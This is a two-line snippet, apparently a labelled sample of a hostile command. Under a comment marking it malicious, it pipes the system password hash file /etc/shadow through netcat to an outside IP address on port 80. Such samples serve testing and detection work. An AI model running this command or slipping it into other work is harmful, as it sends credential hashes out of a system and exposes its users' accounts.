# malicious: reads the passwords
cat /etc/shadow | nc 203.0.113.5 80
